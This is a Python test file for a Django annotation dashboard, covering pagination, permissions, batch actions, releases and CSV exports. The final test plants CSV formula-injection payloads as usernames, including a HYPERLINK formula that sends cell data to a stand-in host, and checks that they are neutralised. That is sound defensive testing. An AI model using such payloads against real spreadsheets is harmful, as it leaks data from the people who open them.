import csv
import re
import io

import pytest
from django.urls import reverse

from accounts.models import User
from annotation.models import Batch, BatchStatus

pytestmark = pytest.mark.django_db

PAGE_QUERIES = 16  # the session, the user, the shown sections' versions (one statement) and their summaries (the tallies summed per task read once for the progress, run and funnel): whatever the data


def test_the_page_runs_a_fixed_number_of_statements_and_pages_its_tables(client, staff, world, django_assert_num_queries):
    from dashboard.summaries import summaries_rebuild
    from tests.factories import BatchFactory, ItemFactory, JudgmentFactory, UserFactory

    client.force_login(staff)
    with django_assert_num_queries(PAGE_QUERIES):
        client.get(reverse("dashboard:index"))
    people = [UserFactory(username=f"many-{n:02d}") for n in range(30)]
    for n in range(30):
        item = ItemFactory(batch=BatchFactory(name=f"many-{n:02d}"))
        JudgmentFactory(item=item, verifier=people[n], label="A", seconds_spent=3.0)
    summaries_rebuild()
    with django_assert_num_queries(PAGE_QUERIES):
        html = client.get(reverse("dashboard:index")).content.decode()
    assert html.count('<tr data-batch="') == 25 + 1 and "page 1 of 2 (32 rows)" in html
    assert 'id="people" hx-get="' in html and '<tr data-verifier="' not in html  # People: loaded when shown
    people = client.get(reverse("dashboard:fragment", args=["people"])).content.decode()
    assert people.count('<tr data-verifier="') == 25 and "page 1 of 2" in people
    second = client.get(reverse("dashboard:fragment", args=["progress"]) + "?page=2").content.decode()
    assert "page 2 of 2" in second and 'data-batch="many-29"' in second
    past = client.get(reverse("dashboard:fragment", args=["progress"]) + "?page=99").content.decode()
    assert "page 2 of 2" in past and 'data-batch="many-29"' in past  # a page past the last: the last


def test_a_poll_with_the_version_shown_gets_no_content(client, staff, world):
    client.force_login(staff)
    url = reverse("dashboard:fragment", args=["progress"])
    html = client.get(url).content.decode()
    version = re.search(r'id="progress" hx-get="[^"]*[?&](?:amp;)?v=([0-9a-f]+)"', html).group(1)
    assert client.get(url, {"v": version}).status_code == 204
    from tests.factories import JudgmentFactory
    from verification import tallies

    judgment = JudgmentFactory(item=world.items["b-2"], verifier=world.verifiers[1], label="A")
    tallies.batch_tallies_refresh(batch_ids=[judgment.batch_id])
    assert client.get(url, {"v": version}).status_code == 200


def test_dashboard_shows_the_fixture_numbers_to_staff(client, staff, world, django_assert_max_num_queries):
    client.force_login(staff)
    with django_assert_max_num_queries(PAGE_QUERIES):  # People, Releases and the staffing table load when shown
        response = client.get(reverse("dashboard:index"))
    assert response.status_code == 200
    html = response.content.decode()
    for lazy in ("staffing", "people", "releases"):  # loaded when shown
        assert re.search(rf'id="{lazy}" hx-get="[^"]*" hx-trigger="revealed"', html), lazy
    staffing = client.get(reverse("dashboard:fragment", args=["staffing"])).content.decode()
    assert 'id="staffing-table"' in staffing and '<tr data-batch="batch-a"' in staffing
    groups = client.get(reverse("dashboard:fragment", args=["agreement_groups"])).content.decode()
    assert 'id="agreement-groups"' in groups and "0.950" in groups  # retrospective × mi, loaded when shown
    assert 'data-testid="judgments-done">19<' in html and 'data-testid="judgments-needed">24<' in html
    assert "0.910" in html and "[0.850, 0.970]" in html
    assert 'data-testid="retained">4<' in html
    assert 'hx-trigger="every 10s"' in html
    assert "vendor/chartjs/chart.umd.min.js" in html


def test_verifier_is_refused_and_anonymous_redirected(client, verifier, world):
    client.force_login(verifier)
    assert client.get(reverse("dashboard:index")).status_code == 403
    assert client.get(reverse("dashboard:fragment", args=["progress"])).status_code == 403
    assert client.get(reverse("dashboard:csv", args=["verifiers"])).status_code == 403
    client.logout()
    response = client.get(reverse("dashboard:index"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize("name", ["progress", "agreement", "retention", "people", "run", "releases"])
def test_fragments_render_alone(client, staff, world, name):
    client.force_login(staff)
    response = client.get(reverse("dashboard:fragment", args=[name]), HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    body = response.content.decode()
    assert f'id="{name}"' in body and "<html" not in body


def _csv(client, name):
    response = client.get(reverse("dashboard:csv", args=[name]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_every_table_downloads_as_csv(client, staff, world):
    client.force_login(staff)
    from dashboard.views import csv_tables

    for name in csv_tables():
        rows = _csv(client, name)
        assert rows[0], name
    progress = _csv(client, "progress")
    assert progress[1][:5] == ["batch-a", "open", "6", "18", "18"]
    assert progress[-1][:5] == ["all batches", "", "8", "19", "24"]
    retention = {r[0]: r for r in _csv(client, "retention_task")[1:]}
    assert retention["retrospective"][1:3] == ["3", "4"]
    verifiers = {r[0]: r for r in _csv(client, "verifiers")[1:]}
    assert verifiers["verifier-1"][2] == "7"


def test_csv_tables_hold_every_batch_not_the_page_on_screen(client, staff, world, monkeypatch):
    from aggregation.models import AggregationRun, BatchResult, RunStatus
    from dashboard import selectors
    from dashboard.summaries import summaries_rebuild

    run = AggregationRun.objects.create(status=RunStatus.SUCCEEDED, settings={"method": "ds"}, progress=1.0)
    run.batches.add(world.batch_b)
    BatchResult.objects.create(run=run, batch=world.batch_b, items=2, judgments=6, retained=1, ac1=0.7,
                               by_group={"retrospective:mi": {"items": 2, "retained": 1, "ac1": 0.7}})
    summaries_rebuild()
    monkeypatch.setattr(selectors, "PAGE_SIZE", 1)  # a page of one batch on screen
    client.force_login(staff)
    assert [r[0] for r in _csv(client, "progress")[1:]] == ["batch-a", "batch-b", "all batches"]
    assert [r[0] for r in _csv(client, "agreement")[1:]] == ["batch-a", "batch-b"]
    assert {r[0] for r in _csv(client, "agreement_groups")[1:]} == {"batch-a", "batch-b"}
    html = client.get(reverse("dashboard:index")).content.decode()
    assert 'data-batch="batch-a"' in html and 'data-batch="batch-b"' not in html  # the page itself is paged


def test_pause_close_and_reopen_a_batch(client, staff, world):
    client.force_login(staff)
    batch = world.batch_b
    response = client.post(reverse("dashboard:batch-action", args=[batch.id, "pause"]), HTTP_HX_REQUEST="true")
    assert response.status_code == 200 and 'id="progress"' in response.content.decode()
    assert Batch.objects.get(pk=batch.id).status == BatchStatus.PAUSED
    client.post(reverse("dashboard:batch-action", args=[batch.id, "reopen"]))
    assert Batch.objects.get(pk=batch.id).status == BatchStatus.OPEN
    response = client.post(reverse("dashboard:batch-action", args=[batch.id, "close"]))
    assert response.status_code == 302
    batch.refresh_from_db()
    assert batch.status == BatchStatus.CLOSED and batch.closed_at is not None


def test_exclude_and_include_a_verifier(client, staff, world):
    client.force_login(staff)
    person = world.verifiers[2]
    client.post(reverse("dashboard:verifier-action", args=[person.id, "exclude"]), {"reason": "one-letter bias"})
    person = User.objects.get(pk=person.id)
    assert person.excluded_from_aggregation and person.exclusion_reason == "one-letter bias"
    client.post(reverse("dashboard:verifier-action", args=[person.id, "include"]))
    assert not User.objects.get(pk=person.id).excluded_from_aggregation


def test_verifier_cannot_act(client, verifier, world):
    client.force_login(verifier)
    assert client.post(reverse("dashboard:batch-action", args=[world.batch_a.id, "close"])).status_code == 403
    assert client.post(reverse("dashboard:verifier-action", args=[verifier.id, "include"])).status_code == 403
    assert Batch.objects.get(pk=world.batch_a.id).status == BatchStatus.OPEN


def test_pausing_a_closed_batch_is_refused_with_a_message(client, staff, world):
    client.force_login(staff)
    client.post(reverse("dashboard:batch-action", args=[world.batch_b.id, "close"]))
    response = client.post(reverse("dashboard:batch-action", args=[world.batch_b.id, "pause"]), HTTP_HX_REQUEST="true")
    assert response.status_code == 200 and "is closed" in response.content.decode()
    assert Batch.objects.get(pk=world.batch_b.id).status == BatchStatus.CLOSED


def test_staff_creates_a_release_from_the_dashboard(client, staff, world, django_capture_on_commit_callbacks):
    from releases.models import Release

    client.force_login(staff)
    with django_capture_on_commit_callbacks() as callbacks:
        response = client.post(reverse("dashboard:release-create"), {"version": "dash-1"}, follow=True)
    assert "Release dash-1 is being built" in response.content.decode()
    assert len(callbacks) == 1
    release = Release.objects.get(version="dash-1")
    assert release.created_by == staff and release.trigger == "dashboard"
    response = client.post(reverse("dashboard:release-create"), {"version": "dash-1"}, follow=True)
    assert "already exists" in response.content.decode()


def test_start_aggregation_creates_a_run_of_every_audited_batch(client, staff, world, django_capture_on_commit_callbacks):
    from aggregation.models import AggregationRun
    from tests.factories import BatchFactory, ItemFactory

    ItemFactory(batch=BatchFactory(name="batch-idle"))  # imported, no judgment: not aggregated
    client.force_login(staff)
    batches = [world.batch_a.id, world.batch_b.id]
    # the first post asks to confirm the batches ticked, and starts nothing
    confirm = client.post(reverse("dashboard:aggregation-start"), {"batch": batches})
    assert confirm.status_code == 200 and "Start an aggregation run?" in confirm.content.decode()
    assert not AggregationRun.objects.filter(trigger="dashboard").exists()
    with django_capture_on_commit_callbacks() as callbacks:
        response = client.post(reverse("dashboard:aggregation-start"), {"batch": batches, "confirm": "yes"}, follow=False)
    assert response.status_code == 302
    run = AggregationRun.objects.order_by("-id").first()
    assert run.trigger == "dashboard" and run.started_by == staff
    assert sorted(run.batches.values_list("name", flat=True)) == ["batch-a", "batch-b"]
    assert len(callbacks) == 1  # the Celery chord is dispatched after commit (not run here)
    response = client.get(reverse("dashboard:fragment", args=["run"]))
    assert f"#{run.id}" in response.content.decode()


def test_a_running_aggregation_is_polled_faster_with_its_progress(client, staff, world):
    from aggregation.models import AggregationRun, RunStatus

    AggregationRun.objects.create(status=RunStatus.RUNNING, progress=0.4, batches_total=5, batches_done=2)
    client.force_login(staff)
    body = client.get(reverse("dashboard:fragment", args=["run"])).content.decode()
    assert 'hx-trigger="every 2s"' in body and 'aria-valuenow="40"' in body and "2 / 5 batches" in body


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, staff, world):
    """Issue 12, break 10: names starting with = + - @ (tab, CR) went into the CSVs raw, and a
    spreadsheet runs them as formulas. Every text cell that could start one gets a leading
    apostrophe (OWASP's advice); numbers, negative ones too, stay numbers."""
    from dashboard.views import csv_tables

    hostile = dict(zip(("verifier-1", "verifier-2", "verifier-3", "crowd-1", "crowd-2", "crowd-3"), HOSTILE_NAMES))
    for old, new in hostile.items():
        User.objects.filter(username=old).update(username=new)
    client.force_login(staff)
    seen = set()
    for name in csv_tables():
        for row in _csv(client, name):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert _is_number(cell), f"{name}: {cell!r} written raw"
                seen.add(cell)
    for new in hostile.values():
        assert "'" + new in seen, f"{new!r} is not in the verifiers or crowd table, neutralised"
